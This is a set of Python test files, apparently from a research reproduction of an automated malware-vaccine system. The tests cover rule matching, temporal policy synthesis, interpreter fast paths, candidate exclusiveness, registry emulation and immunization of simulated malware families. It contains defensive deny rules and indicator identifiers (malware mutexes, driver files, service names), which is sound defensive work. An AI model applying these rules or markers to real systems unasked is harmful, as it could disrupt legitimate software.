        _event("CreateFileA", ResourceType.FILE, "C:\\Windows\\EVIL.SYS", Operation.CREATE),
        _event("CreateMutexA", ResourceType.MUTEX, "wxyz0007", Operation.CREATE),
        _event("CreateMutexA", ResourceType.MUTEX, "wxyz00071", Operation.CREATE),
        _event("CreateFileA", ResourceType.FILE, "c:\\benign.txt", Operation.CREATE),
    ]

    def test_all_consumers_agree(self):
        daemon = VaccineDaemon(vaccines=list(self.VACCINES))
        daemon.install(SystemEnvironment())
        standalone = RuleEngine.compile(vaccines=self.VACCINES)

        for event in self.PROBES:
            # daemon interception path
            daemon_verdict = daemon._intercept(event)
            # clinic attribution path: first match_all hit decides
            hits = standalone.match_all(
                event.resource_type, event.identifier, event.operation
            )
            clinic_verdict = (
                RuleEngine.verdict(hits[0], event.operation)
                if hits
                else Interception.PASS
            )
            # campaign accounting path
            rule = standalone.match(
                event.resource_type, event.identifier, event.operation
            )
            campaign_verdict = (
                RuleEngine.verdict(rule, event.operation)
                if rule
                else Interception.PASS
            )
            assert daemon_verdict == clinic_verdict == campaign_verdict, event.identifier
            if rule is not None:
                assert hits[0].source is rule.source


# ---------------------------------------------------------------------------
# Clinic prefix-matching regression
# ---------------------------------------------------------------------------


class TestClinicAttributionRegression:
    """PR 5 fixed prefix-vs-fullmatch in the daemon only; the clinic kept
    ``re.match`` and would implicate any benign identifier that merely
    *starts* like a partial-static pattern.  The shared engine pins
    fullmatch for attribution too."""

    def test_pattern_does_not_implicate_prefix_sharing_identifiers(self):
        vaccine = _vaccine(
            "vx3k9f2q.dll",
            rtype=ResourceType.FILE,
            kind=IdentifierKind.PARTIAL_STATIC,
            pattern=r"[a-z0-9]{8}\.dll",
        )
        engine = RuleEngine.compile(vaccines=[vaccine])
        # the clinic's attribution query on a benign file that extends the
        # pattern match must come back empty
        assert engine.match_all(ResourceType.FILE, "vx3k9f2q.dll.bak") == []
        assert engine.match_all(ResourceType.FILE, "vx3k9f2q.dll") != []

    def test_clinic_incidents_carry_implicated_sources(self):
        # an enforce-failure vaccine on a file the benign suite writes must
        # produce incidents attributed back to that vaccine
        from repro.core.clinic import clinic_test

        hostile = _vaccine(
            "c:\\windows\\temp\\imlog.txt",
            rtype=ResourceType.FILE,
            mechanism=Mechanism.ENFORCE_FAILURE,
        )
        report = clinic_test([hostile], benign_suite())
        assert report.incidents
        assert any(hostile in i.implicated for i in report.incidents)


# ---------------------------------------------------------------------------
# Vaccine codec errors
# ---------------------------------------------------------------------------


class TestVaccineFromDictErrors:
    def test_missing_field_is_named(self):
        payload = _vaccine().to_dict()
        payload.pop("resource_type")
        with pytest.raises(ValueError, match="missing field 'resource_type'"):
            Vaccine.from_dict(payload)

    def test_unknown_enum_value_is_named(self):
        payload = _vaccine().to_dict()
        payload["mechanism"] = "hope_for_the_best"
        with pytest.raises(ValueError, match="'mechanism' has unknown value"):
            Vaccine.from_dict(payload)

    def test_unknown_operation_is_named(self):
        payload = _vaccine().to_dict()
        payload["operations"] = ["create", "teleport"]
        with pytest.raises(ValueError, match="'operations' has unknown value 'teleport'"):
            Vaccine.from_dict(payload)

    def test_round_trip_still_works(self):
        v = _vaccine()
        assert Vaccine.from_dict(v.to_dict()).to_dict() == v.to_dict()


# ---------------------------------------------------------------------------
# Policy synthesis
# ---------------------------------------------------------------------------


class TestPolicySynthesis:
    def test_no_effective_impact_means_no_policy(self, sality_analysis):
        trace = sality_analysis.phase1.trace
        assert synthesize_policy("x", trace, impacts=[]) is None

    def test_boundary_is_first_interception_site(self, sality_analysis):
        policy = sality_analysis.policy
        assert policy is not None
        assert policy.boundary_api == "OpenMutexA"
        assert policy.boundary_seq == 3
        assert policy.phase_of(policy.boundary_seq - 1) == "init"
        assert policy.phase_of(policy.boundary_seq) == "steady"

    def test_steady_acquisitions_become_deny_rules(self, sality_analysis):
        policy = sality_analysis.policy
        denied = {(r.resource_type, r.identifier) for r in policy.deny}
        assert denied == {
            (ResourceType.FILE, "c:\\windows\\system32\\drivers\\qatpcks.sys"),
            (ResourceType.MUTEX, "Op1mutx9"),
            (ResourceType.SERVICE, "amsint32"),
        }
        for rule in policy.deny:
            assert rule.operations and rule.operations <= set(ACQUISITION_OPERATIONS)
            assert rule.apis
        assert policy.denies(
            ResourceType.SERVICE, Operation.CREATE, "AMSINT32"
        )
        assert not policy.denies(
            ResourceType.SERVICE, Operation.CHECK, "amsint32"
        )

    def test_benign_baseline_is_subtracted(self, sality_analysis):
        policy = sality_analysis.policy
        reasons = {s.reason for s in policy.subtracted}
        assert any("benign baseline" in r for r in reasons)
        subtracted_ids = {s.identifier for s in policy.subtracted}
        assert not subtracted_ids & {r.identifier for r in policy.deny}

    def test_boundary_check_lands_in_steady_state(self, sality_analysis):
        # sality's first calls carry no resource identifier, so the init
        # allowlist is empty — the vaccine-style marker check at the
        # boundary itself belongs to steady state by construction
        policy = sality_analysis.policy
        assert policy.steady_identifiers > 0
        assert "Op1mutx9" in policy.steady_allow[(ResourceType.MUTEX, Operation.CHECK)]
        for identifiers in policy.steady_allow.values():
            assert list(identifiers) == sorted(identifiers)

    def test_every_family_gets_a_policy(self):
        for family in ("conficker", "zeus", "qakbot", "ibank", "poisonivy"):
            analysis = AutoVac().analyze(build_family(family))
            assert analysis.policy is not None, family
            assert analysis.policy.deny, family

    def test_policy_round_trips(self, sality_analysis):
        policy = sality_analysis.policy
        decoded = TemporalApiPolicy.from_dict(policy.to_dict())
        assert decoded.to_dict() == policy.to_dict()
        assert decoded.denies(
            ResourceType.MUTEX, Operation.CREATE, "Op1mutx9"
        )


# ---------------------------------------------------------------------------
# Policy enforcement (daemon) and certification (clinic)
# ---------------------------------------------------------------------------


class TestPolicyEnforcement:
    def test_daemon_denies_steady_state_acquisitions(self, sality_analysis):
        obs.reset()
        policy = TemporalApiPolicy.from_dict(sality_analysis.policy.to_dict())
        host = SystemEnvironment()
        daemon = VaccineDaemon(policies=[policy])
        daemon.install(host)

        from repro.core.runner import run_sample

        run_sample(
            build_family("sality"), environment=host, record_instructions=False
        )
        assert daemon.policy_violations > 0
        violations = [
            e for e in obs.flight.events() if e.kind == "policy.violation"
        ]
        assert violations
        summary = summarize_event(violations[0])
        assert "policy denied" in summary

    def test_validate_policy_is_clean_on_benign_suite(self, sality_analysis):
        policy = TemporalApiPolicy.from_dict(sality_analysis.policy.to_dict())
        validation = validate_policy(policy, benign_suite())
        assert validation.clean
        assert validation.removed == []
        assert policy.certified is True

    def test_validate_policy_refines_overbroad_rules(self, sality_analysis):
        policy = TemporalApiPolicy.from_dict(sality_analysis.policy.to_dict())
        poison = PolicyRule(
            resource_type=ResourceType.FILE,
            identifier="c:\\windows\\temp\\imlog.txt",
            operations=frozenset({Operation.CREATE, Operation.WRITE}),
            reason="deliberately overbroad",
        )
        policy.deny.append(poison)
        validation = validate_policy(policy, benign_suite())
        assert validation.incidents
        assert poison in validation.removed
        assert poison not in policy.deny
        assert any(
            s.identifier == poison.identifier and s.reason == "clinic incident"
            for s in policy.subtracted
        )
        # refinement succeeded, so the policy is still certified
        assert policy.certified is True

    def test_pipeline_records_synthesis_flight_event(self, sality_analysis):
        journal = sality_analysis.journal
        assert journal is not None
        events = journal.find("policy.synthesized")
        assert len(events) == 1
        event = events[0]
        assert event.attrs["boundary_api"] == "OpenMutexA"
        assert event.attrs["deny"] == 3
        assert event.causes  # chained to the effective impact outcomes
        assert "temporal policy" in summarize_event(event)
