"""Predecoded interpreter fast-path tests.

The CPU binds every instruction to a predecoded handler pair at
construction: a full handler (taint + def/use bookkeeping) and, where the
instruction has no taint-relevant side channel, an untainted fast handler.
While no live taint exists and nothing needs recording, the run loop stays
on the fast handlers — these tests pin that the two paths are
observationally identical and that the fast path engages/disengages at
exactly the taint boundaries.
"""

from __future__ import annotations

import pytest

from repro import obs
from repro.vm import CPU, ExitStatus, assemble
from repro.vm.cpu import _VM_FLUSH_CACHE
from repro.winapi import Dispatcher
from repro.winenv import SystemEnvironment


def _fresh_cpu(src: str, record_instructions: bool, max_steps: int = 50_000) -> CPU:
    env = SystemEnvironment()
    proc = env.spawn_process("t.exe")
    program = assemble(src, name="decode-test")
    cpu = CPU(
        program,
        environment=env,
        process=proc,
        dispatcher=Dispatcher(env, proc),
        max_steps=max_steps,
        record_instructions=record_instructions,
    )
    cpu.run()
    return cpu


def _machine_state(cpu: CPU):
    return (
        cpu.regs,
        cpu.flags,
        cpu.steps,
        cpu.status,
        cpu.fault_reason,
        cpu.callstack,
        dict(cpu.memory._bytes),
        [e.context_key() for e in cpu.trace.api_calls],
    )


# Exercises every fast-handler family: mov/lea/xchg, the ALU group,
# unaries, push/pop, cmp/test + all flag-driven jumps, local call/ret,
# and byte-wide memory traffic — inside a loop so the fast inner loop
# actually spins.
COMPUTE = """
.section .data
buf: .space 64
.section .text
    mov ecx, 16
    mov esi, buf
    xor eax, eax
loop_top:
    mov ebx, ecx
    imul ebx, 3
    add eax, ebx
    sub ebx, 1
    and ebx, 255
    or ebx, 1
    shl ebx, 2
    shr ebx, 1
    not ebx
    neg ebx
    movb [esi], ebx
    inc esi
    lea edx, [esi+4]
    xchg edx, ebx
    push eax
    pop edx
    call helper
    cmp eax, 1000
    ja big
    dec ecx
    test ecx, ecx
    jnz loop_top
big:
    cmp eax, 0
    je never
    jge done
never:
    halt
done:
    halt
helper:
    push ebp
    mov ebp, esp
    add eax, 7
    pop ebp
    ret
"""


class TestFastSlowParity:
    def test_compute_heavy_program_identical(self):
        slow = _fresh_cpu(COMPUTE, record_instructions=True)
        fast = _fresh_cpu(COMPUTE, record_instructions=False)
        assert slow.status is ExitStatus.HALTED
        assert _machine_state(slow) == _machine_state(fast)

    def test_fast_mode_engages_without_recording(self):
        fast = _fresh_cpu(COMPUTE, record_instructions=False)
        assert fast._allow_fast and fast._fast_mode
        # Recording mode never enters the fast loop.
        slow = _fresh_cpu(COMPUTE, record_instructions=True)
        assert not slow._allow_fast and not slow._fast_mode
        assert len(slow.trace.instructions) == slow.steps

    def test_fault_parity_on_bad_memory(self):
        src = "    mov eax, [0x10]\n    halt\n"
        slow = _fresh_cpu(src, record_instructions=True)
        fast = _fresh_cpu(src, record_instructions=False)
        assert slow.status is fast.status is ExitStatus.FAULT
        assert slow.fault_reason == fast.fault_reason
        assert slow.steps == fast.steps

    def test_fault_parity_on_wild_jump(self):
        src = "    jmp 0x99999999\n    halt\n"
        slow = _fresh_cpu(src, record_instructions=True)
        fast = _fresh_cpu(src, record_instructions=False)
        assert slow.status is fast.status is ExitStatus.FAULT
        assert slow.fault_reason == fast.fault_reason

    def test_budget_parity(self):
        src = "spin:\n    inc eax\n    jmp spin\n"
        slow = _fresh_cpu(src, record_instructions=True, max_steps=501)
        fast = _fresh_cpu(src, record_instructions=False, max_steps=501)
        assert slow.status is fast.status is ExitStatus.BUDGET
        assert slow.steps == fast.steps == 501
        assert slow.regs["eax"] == fast.regs["eax"]


TAINTING_CALL = (
    '.section .rdata\nm: .asciz "x"\n.section .text\n'
    "    push m\n    push 0\n    push 0\n    call @OpenMutexA\n"
)


class TestTaintBoundaries:
    def test_taint_ingress_disables_fast_mode(self):
        cpu = _fresh_cpu(TAINTING_CALL + "    add eax, 1\n    halt\n",
                         record_instructions=False)
        # eax still carries the API tag at halt, so the recheck at the call
        # left the machine on the slow path.
        assert cpu.reg_taint["eax"]
        assert cpu._allow_fast and not cpu._fast_mode

    def test_taint_semantics_preserved_without_recording(self):
        src = TAINTING_CALL + "    test eax, eax\n    jz out\nout:\n    halt\n"
        slow = _fresh_cpu(src, record_instructions=True)
        fast = _fresh_cpu(src, record_instructions=False)
        # The tainted-predicate event (the Phase-I signal) survives either way.
        assert len(slow.trace.predicates) == len(fast.trace.predicates) == 1
        assert slow.trace.predicates[0].tags == fast.trace.predicates[0].tags

    def test_fast_mode_reengages_after_taint_cleared(self):
        # Taint in, scrubbed by xor-self, then a non-tainting API call:
        # the post-invoke recheck sees a clean machine again.
        src = (TAINTING_CALL +
               "    xor eax, eax\n    push 0\n    call @Sleep\n"
               "    add eax, 2\n    halt\n")
        cpu = _fresh_cpu(src, record_instructions=False)
        assert not cpu._taint_live()
        assert cpu._fast_mode

    def test_manual_pre_run_taint_respected(self):
        from repro.taint.labels import TaintClass, TaintTag

        env = SystemEnvironment()
        proc = env.spawn_process("t.exe")
        program = assemble("    mov ebx, eax\n    test ebx, ebx\n    halt\n")
        cpu = CPU(program, environment=env, process=proc,
                  dispatcher=Dispatcher(env, proc), record_instructions=False)
        cpu.reg_taint["eax"] = frozenset(
            {TaintTag(event_id=1, api="X", klass=TaintClass.RESOURCE)}
        )
        cpu.run()
        # run() rechecks before the first instruction, so hand-injected
        # taint still propagates and still records the predicate.
        assert cpu.reg_taint["ebx"]
        assert len(cpu.trace.predicates) == 1


class TestVmFlushCacheGeneration:
    def test_counters_survive_obs_reset(self):
        obs.reset()
        try:
            cpu1 = _fresh_cpu("    mov eax, 1\n    halt\n", record_instructions=False)
            assert obs.metrics.counter("vm.instructions").value == cpu1.steps
            generation_before = _VM_FLUSH_CACHE.generation

            obs.reset()  # bumps the registry generation, discards families
            assert obs.metrics.generation != generation_before
            cpu2 = _fresh_cpu("    mov eax, 1\n    mov ebx, 2\n    halt\n",
                              record_instructions=False)
            # The stale handles must be dropped: the fresh registry sees
            # exactly the second run, not zero (lost to a dead handle) and
            # not first+second (leaked through a stale one).
            assert obs.metrics.counter("vm.instructions").value == cpu2.steps
            assert _VM_FLUSH_CACHE.generation == obs.metrics.generation
        finally:
            obs.reset()

    def test_per_status_handles_refresh(self):
        obs.reset()
        try:
            _fresh_cpu("    halt\n", record_instructions=False)
            assert obs.metrics.counter("vm.runs", status="halted").value == 1
            obs.reset()
            _fresh_cpu("    halt\n", record_instructions=False)
            assert obs.metrics.counter("vm.runs", status="halted").value == 1
        finally:
            obs.reset()
