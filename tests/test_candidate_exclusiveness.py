"""Phase-I candidate selection + exclusiveness analysis tests."""

import pytest

from repro.core import select_candidates
from repro.core.exclusiveness import ExclusivenessAnalyzer
from repro.corpus import build_family
from repro.search import SearchEngine
from repro.vm import assemble
from repro.winenv import ResourceType, SystemEnvironment

MUTEX_CHECKER = (
    '.section .rdata\nm: .asciz "Marker99"\n.section .text\n'
    "    push m\n    push 0\n    push 0x1F0001\n    call @OpenMutexA\n"
    "    test eax, eax\n    jnz infected\n"
    "    push m\n    push 0\n    push 0\n    call @CreateMutexA\n"
    "    halt\ninfected:\n    push 0\n    call @ExitProcess\n"
)

NO_CHECKS = (
    '.section .rdata\nm: .asciz "JustCreate"\n.section .text\n'
    "    push m\n    push 0\n    push 0\n    call @CreateMutexA\n    halt\n"
)


class TestCandidateSelection:
    def test_mutex_checker_flagged(self):
        report = select_candidates(assemble(MUTEX_CHECKER, name="mc"))
        assert report.has_vaccine_potential

    def test_candidate_grouped_by_identifier(self):
        report = select_candidates(assemble(MUTEX_CHECKER, name="mc"))
        cand = report.candidate(ResourceType.MUTEX, "Marker99")
        assert cand is not None
        assert cand.influences_control_flow
        assert {"OpenMutexA", "CreateMutexA"} <= cand.apis

    def test_candidate_operations_recorded(self):
        from repro.winenv import Operation

        report = select_candidates(assemble(MUTEX_CHECKER, name="mc"))
        cand = report.candidate(ResourceType.MUTEX, "Marker99")
        assert Operation.CHECK in cand.operations
        assert Operation.CREATE in cand.operations

    def test_unchecked_resource_not_influential(self):
        report = select_candidates(assemble(NO_CHECKS, name="nc"))
        assert not report.has_vaccine_potential
        cand = report.candidate(ResourceType.MUTEX, "JustCreate")
        assert cand is not None and not cand.influences_control_flow

    def test_failed_access_flagged(self):
        report = select_candidates(assemble(MUTEX_CHECKER, name="mc"))
        cand = report.candidate(ResourceType.MUTEX, "Marker99")
        assert cand.had_failure  # OpenMutex failed in the clean run

    def test_occurrence_statistics(self):
        report = select_candidates(assemble(MUTEX_CHECKER, name="mc"))
        assert report.total_occurrences == 2
        assert report.influential_occurrences >= 1

    def test_file_identifier_normalized(self):
        src = (
            '.section .rdata\np: .asciz "%SYSTEM32%\\\\Evil.exe"\n.section .text\n'
            "    push p\n    call @GetFileAttributesA\n"
            "    cmp eax, 0xFFFFFFFF\n    je done\ndone:\n    halt\n"
        )
        report = select_candidates(assemble(src, name="f"))
        assert report.candidate(ResourceType.FILE, "c:\\windows\\system32\\evil.exe")

    def test_environment_not_polluted_between_runs(self):
        env = SystemEnvironment()
        select_candidates(assemble(NO_CHECKS, name="nc"), environment=env)
        assert not env.mutexes.exists("JustCreate")

    def test_zeus_candidates_include_paper_resources(self, family_programs):
        report = select_candidates(family_programs["zeus"])
        assert report.candidate(ResourceType.FILE, "c:\\windows\\system32\\sdra64.exe")
        assert report.candidate(ResourceType.MUTEX, "_AVIRA_2109")


class TestExclusiveness:
    def _candidate(self, rtype, identifier):
        from repro.core.candidate import CandidateResource

        return CandidateResource(resource_type=rtype, identifier=identifier)

    def test_malware_specific_name_exclusive(self):
        analyzer = ExclusivenessAnalyzer()
        decision = analyzer.check(self._candidate(ResourceType.MUTEX, "_AVIRA_2109"))
        assert decision.exclusive

    def test_standard_library_excluded_by_whitelist(self):
        analyzer = ExclusivenessAnalyzer()
        decision = analyzer.check(self._candidate(ResourceType.LIBRARY, "uxtheme.dll"))
        assert not decision.exclusive
        assert "whitelisted" in decision.reason

    def test_benign_documented_resource_excluded_by_search(self):
        analyzer = ExclusivenessAnalyzer()
        decision = analyzer.check(self._candidate(ResourceType.MUTEX, "BrowserSingletonMtx"))
        assert not decision.exclusive
        assert "search hit" in decision.reason

    def test_run_key_prefix_whitelisted(self):
        analyzer = ExclusivenessAnalyzer()
        key = "hklm\\software\\microsoft\\windows\\currentversion\\run"
        assert not analyzer.check(self._candidate(ResourceType.REGISTRY, key)).exclusive

    def test_file_inside_system32_still_exclusive(self):
        analyzer = ExclusivenessAnalyzer()
        decision = analyzer.check(
            self._candidate(ResourceType.FILE, "c:\\windows\\system32\\sdra64.exe")
        )
        assert decision.exclusive

    def test_basename_probe_catches_documented_file(self):
        analyzer = ExclusivenessAnalyzer()
        decision = analyzer.check(
            self._candidate(ResourceType.FILE, "c:\\windows\\system32\\avstate.dat")
        )
        assert not decision.exclusive

    def test_extra_whitelist_respected(self):
        analyzer = ExclusivenessAnalyzer(extra_whitelist={"CorpMutex"})
        assert not analyzer.check(self._candidate(ResourceType.MUTEX, "CorpMutex")).exclusive

    def test_filter_partitions(self):
        analyzer = ExclusivenessAnalyzer()
        candidates = [
            self._candidate(ResourceType.MUTEX, "_AVIRA_2109"),
            self._candidate(ResourceType.LIBRARY, "msvcrt.dll"),
        ]
        exclusive = analyzer.exclusive_candidates(candidates)
        assert [c.identifier for c in exclusive] == ["_AVIRA_2109"]


class TestSearchEngine:
    def test_query_counts(self):
        engine = SearchEngine()
        engine.query("uxtheme.dll")
        engine.query("nothing-here-xyz")
        assert engine.query_count == 2

    def test_token_hit(self):
        hits = SearchEngine().query("uxtheme.dll")
        assert hits and "them" in hits[0].snippet or hits

    def test_substring_fallback(self):
        hits = SearchEngine().query("officequickstart")
        assert hits

    def test_short_queries_ignored(self):
        assert SearchEngine().query("ab") == []

    def test_no_hits_for_random_identifier(self):
        assert SearchEngine().query("zzq_random_8931") == []

    def test_add_document_extends_corpus(self):
        engine = SearchEngine()
        assert engine.query("customapp_mutex_77") == []
        engine.add_document("Custom app manual", "customapp_mutex_77 guards the tray icon")
        assert engine.query("customapp_mutex_77")
