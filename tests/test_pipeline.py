"""End-to-end pipeline tests on the named families and the population."""

import pytest

from repro import AutoVac, SystemEnvironment, VaccinePackage, deploy
from repro.core import DeliveryKind, IdentifierKind, Immunization, Mechanism, run_sample
from repro.corpus import (
    benign_suite,
    build_control_dependence_evader,
    build_family,
    generate_population,
    GeneratorConfig,
)
from repro.winenv import MachineIdentity, ResourceType


@pytest.fixture(scope="module")
def analyses(family_programs):
    av = AutoVac()
    return {name: av.analyze(prog) for name, prog in family_programs.items()}


class TestFamilyVaccines:
    def test_every_family_yields_vaccines(self, analyses):
        for name, analysis in analyses.items():
            assert analysis.vaccines, f"{name} produced no vaccines"

    def test_zeus_file_vaccine_matches_paper(self, analyses):
        vaccines = analyses["zeus"].vaccines
        file_vaccine = next(v for v in vaccines if v.resource_type is ResourceType.FILE)
        assert file_vaccine.identifier == "c:\\windows\\system32\\sdra64.exe"
        assert file_vaccine.immunization is Immunization.FULL
        assert file_vaccine.delivery is DeliveryKind.DIRECT_INJECTION

    def test_zeus_avira_mutex_vaccine(self, analyses):
        vaccines = analyses["zeus"].vaccines
        mutex = next(v for v in vaccines if v.resource_type is ResourceType.MUTEX)
        assert mutex.identifier == "_AVIRA_2109"
        assert mutex.immunization.is_partial

    def test_conficker_algorithm_deterministic_mutex(self, analyses):
        vaccines = analyses["conficker"].vaccines
        mutex = next(v for v in vaccines if v.resource_type is ResourceType.MUTEX)
        assert mutex.identifier_kind is IdentifierKind.ALGORITHM_DETERMINISTIC
        assert mutex.slice is not None
        assert mutex.delivery is DeliveryKind.DAEMON
        assert mutex.immunization is Immunization.FULL

    def test_qakbot_registry_marker_vaccine(self, analyses):
        vaccines = analyses["qakbot"].vaccines
        reg = next(v for v in vaccines if v.resource_type is ResourceType.REGISTRY)
        assert reg.identifier == "hklm\\software\\microsoft\\sqinstalled"
        assert reg.immunization is Immunization.FULL

    def test_qakbot_partial_static_mutex(self, analyses):
        vaccines = analyses["qakbot"].vaccines
        partial = next(v for v in vaccines
                       if v.identifier_kind is IdentifierKind.PARTIAL_STATIC)
        assert partial.pattern.startswith("^qbot")

    def test_poisonivy_marker_mutex(self, analyses):
        vaccines = analyses["poisonivy"].vaccines
        mutex = next(v for v in vaccines if v.resource_type is ResourceType.MUTEX)
        assert mutex.identifier == ")!VoqA.I4"

    def test_sality_kernel_vaccine(self, analyses):
        vaccines = analyses["sality"].vaccines
        sysfile = next(v for v in vaccines if v.identifier.endswith(".sys"))
        assert sysfile.immunization is Immunization.TYPE_I_KERNEL

    def test_run_keys_never_become_vaccines(self, analyses):
        for analysis in analyses.values():
            for v in analysis.vaccines:
                assert "currentversion\\run" not in v.identifier


class TestImmunizationEndToEnd:
    def _immunize_and_run(self, program, vaccines, identity=None):
        host = SystemEnvironment(identity=identity, rng_seed=777)
        deploy(VaccinePackage(vaccines=vaccines), host)
        return run_sample(program, environment=host, record_instructions=False), host

    def test_zeus_blocked_on_vaccinated_host(self, family_programs, analyses):
        run, host = self._immunize_and_run(family_programs["zeus"], analyses["zeus"].vaccines)
        assert run.trace.terminated
        explorer = host.processes.find_by_name("explorer.exe")
        assert not explorer.was_injected

    def test_conficker_blocked_on_different_machine(self, family_programs, analyses):
        run, host = self._immunize_and_run(
            family_programs["conficker"], analyses["conficker"].vaccines,
            identity=MachineIdentity(computer_name="TOTALLY-DIFFERENT-HOST"),
        )
        assert run.trace.terminated
        assert run.environment.network.bytes_sent_by(run.process.pid) == 0

    def test_sality_driver_blocked(self, family_programs, analyses):
        run, host = self._immunize_and_run(family_programs["sality"], analyses["sality"].vaccines)
        svc = run.environment.services.lookup("amsint32")
        # Either never created, or it is the injected decoy — in no case did
        # the malware's kernel driver get registered and started.
        assert svc is None or (not svc.is_kernel_driver and svc.state.value == "stopped")

    def test_unvaccinated_host_still_infected(self, family_programs):
        run = run_sample(family_programs["zeus"], record_instructions=False)
        explorer = run.environment.processes.find_by_name("explorer.exe")
        assert explorer.was_injected

    def test_vaccines_survive_package_roundtrip(self, family_programs, analyses):
        pkg = VaccinePackage.from_json(
            VaccinePackage(vaccines=analyses["conficker"].vaccines).to_json()
        )
        run, host = self._immunize_and_run(
            family_programs["conficker"], pkg.vaccines,
            identity=MachineIdentity(computer_name="ROUNDTRIP-BOX"),
        )
        assert run.trace.terminated


class TestPipelineControls:
    def test_exclusiveness_disabled_yields_more_candidates(self, family_programs):
        program = build_family("sality")
        with_excl = AutoVac(exclusiveness_enabled=True).analyze(program)
        without = AutoVac(exclusiveness_enabled=False).analyze(program)
        assert len(without.vaccines) >= len(with_excl.vaccines)

    def test_clinic_integration(self, family_programs, benign_programs):
        av = AutoVac(clinic_programs=benign_programs, run_clinic=True)
        analysis = av.analyze(family_programs["zeus"])
        assert analysis.clinic is not None
        assert analysis.clinic.clean
        assert analysis.vaccines

    def test_evasive_sample_missed(self):
        analysis = AutoVac().analyze(build_control_dependence_evader())
        assert analysis.filtered_reason is not None
        assert not analysis.vaccines

    def test_timings_recorded(self, analyses):
        timing = analyses["zeus"].timings
        assert {"phase1", "exclusiveness", "impact", "determinism"} <= set(timing)

    def test_linear_aligner_also_works(self, family_programs):
        from repro.analysis import align_linear

        analysis = AutoVac(aligner=align_linear).analyze(family_programs["zeus"])
        assert analysis.vaccines


class TestPopulation:
    @pytest.fixture(scope="class")
    def population_result(self):
        samples = generate_population(GeneratorConfig(size=60, seed=13))
        av = AutoVac()
        return samples, av.analyze_population([s.program for s in samples])

    def test_yield_is_minority(self, population_result):
        samples, result = population_result
        assert 0 < result.samples_with_vaccines < len(samples) * 0.6

    def test_table4_shape_file_dominates(self, population_result):
        _, result = population_result
        table = result.count_by_resource_and_immunization()
        totals = {rt: sum(row.values()) for rt, row in table.items()}
        assert totals.get("file", 0) >= max(totals.get("window", 0), totals.get("service", 0))

    def test_static_identifiers_dominate(self, population_result):
        _, result = population_result
        kinds = result.count_by_identifier_kind()
        static = kinds.get("static", 0)
        other = sum(v for k, v in kinds.items() if k != "static")
        assert static > other

    def test_direct_injection_dominates(self, population_result):
        _, result = population_result
        delivery = result.count_by_delivery()
        assert delivery.get("direct_injection", 0) >= delivery.get("daemon", 0)

    def test_occurrence_influence_rate_high(self, population_result):
        _, result = population_result
        stats = result.occurrence_stats()
        assert stats["total"] > 0
        assert stats["influential"] / stats["total"] > 0.4

    def test_generator_deterministic(self):
        a = generate_population(GeneratorConfig(size=10, seed=5))
        b = generate_population(GeneratorConfig(size=10, seed=5))
        assert [s.program.source for s in a] == [s.program.source for s in b]

    def test_categories_follow_table2_ordering(self):
        from repro.corpus import category_distribution

        samples = generate_population(GeneratorConfig(size=400, seed=1))
        dist = category_distribution(samples)
        assert dist["backdoor"] > dist["downloader"] > dist["trojan"]
        assert dist["trojan"] > dist.get("virus", 0)
