"""Registry substrate tests."""

import pytest

from repro.winenv import (
    IntegrityLevel,
    Registry,
    ResourceFault,
    RUN_KEY_HKLM,
    Win32Error,
    WINLOGON_KEY,
    is_persistence_key,
    normalize_key,
    vaccine_acl,
)

MED = IntegrityLevel.MEDIUM
LOW = IntegrityLevel.LOW
SYS = IntegrityLevel.SYSTEM


class TestKeyNormalization:
    def test_hive_alias_long_form(self):
        assert normalize_key("HKEY_LOCAL_MACHINE\\Software\\X") == "hklm\\software\\x"

    def test_hive_alias_short_form(self):
        assert normalize_key("hkcu\\A") == "hkcu\\a"

    def test_forward_slashes(self):
        assert normalize_key("hklm/software/y") == "hklm\\software\\y"

    def test_persistence_detection_run_key(self):
        assert is_persistence_key(RUN_KEY_HKLM)
        assert is_persistence_key(RUN_KEY_HKLM + "\\whatever")

    def test_persistence_detection_winlogon(self):
        assert is_persistence_key(WINLOGON_KEY)

    def test_non_persistence_key(self):
        assert not is_persistence_key("hklm\\software\\randomvendor")


class TestRegistry:
    def test_standard_keys_seeded(self):
        reg = Registry()
        assert reg.exists(RUN_KEY_HKLM)
        assert reg.query_value(WINLOGON_KEY, "shell", MED) == "explorer.exe"

    def test_create_and_set_value(self):
        reg = Registry()
        reg.create_key("hklm\\software\\acme", MED)
        reg.set_value("hklm\\software\\acme", "installed", 1, MED)
        assert reg.query_value("hklm\\software\\acme", "installed", MED) == 1

    def test_value_names_case_insensitive(self):
        reg = Registry()
        reg.create_key("hklm\\software\\a", MED)
        reg.set_value("hklm\\software\\a", "Name", "v", MED)
        assert reg.query_value("hklm\\software\\a", "NAME", MED) == "v"

    def test_query_missing_value_raises(self):
        reg = Registry()
        with pytest.raises(ResourceFault) as exc:
            reg.query_value(RUN_KEY_HKLM, "ghost", MED)
        assert exc.value.error is Win32Error.FILE_NOT_FOUND

    def test_missing_key_raises(self):
        reg = Registry()
        with pytest.raises(ResourceFault):
            reg.query_value("hklm\\software\\none", "x", MED)

    def test_delete_value(self):
        reg = Registry()
        reg.create_key("hklm\\k", MED)
        reg.set_value("hklm\\k", "v", "1", MED)
        reg.delete_value("hklm\\k", "v", MED)
        with pytest.raises(ResourceFault):
            reg.query_value("hklm\\k", "v", MED)

    def test_delete_key(self):
        reg = Registry()
        reg.create_key("hklm\\gone", MED)
        reg.delete_key("hklm\\gone", MED)
        assert not reg.exists("hklm\\gone")

    def test_create_exist_ok_false_raises(self):
        reg = Registry()
        reg.create_key("hklm\\x", MED)
        with pytest.raises(ResourceFault) as exc:
            reg.create_key("hklm\\x", MED, exist_ok=False)
        assert exc.value.error is Win32Error.ALREADY_EXISTS

    def test_subkeys(self):
        reg = Registry()
        reg.create_key("hklm\\p\\a", MED)
        reg.create_key("hklm\\p\\b", MED)
        reg.create_key("hklm\\p\\a\\deep", MED)
        assert reg.subkeys("hklm\\p") == ["hklm\\p\\a", "hklm\\p\\b"]

    def test_locked_key_blocks_low_write(self):
        reg = Registry()
        key = reg.create_key("hklm\\vaccine", SYS)
        key.acl = vaccine_acl()
        with pytest.raises(ResourceFault) as exc:
            reg.set_value("hklm\\vaccine", "x", 1, LOW)
        assert exc.value.error is Win32Error.ACCESS_DENIED

    def test_clone_independent(self):
        reg = Registry()
        reg.create_key("hklm\\c", MED)
        reg.set_value("hklm\\c", "v", 1, MED)
        clone = reg.clone()
        clone.set_value("hklm\\c", "v", 2, MED)
        assert reg.query_value("hklm\\c", "v", MED) == 1
