"""Population-wide invariants: every vaccine the pipeline ever emits must be
well-formed, deployable and consistent — a catch-all sweep over a generated
corpus plus all named families."""

import re

import pytest

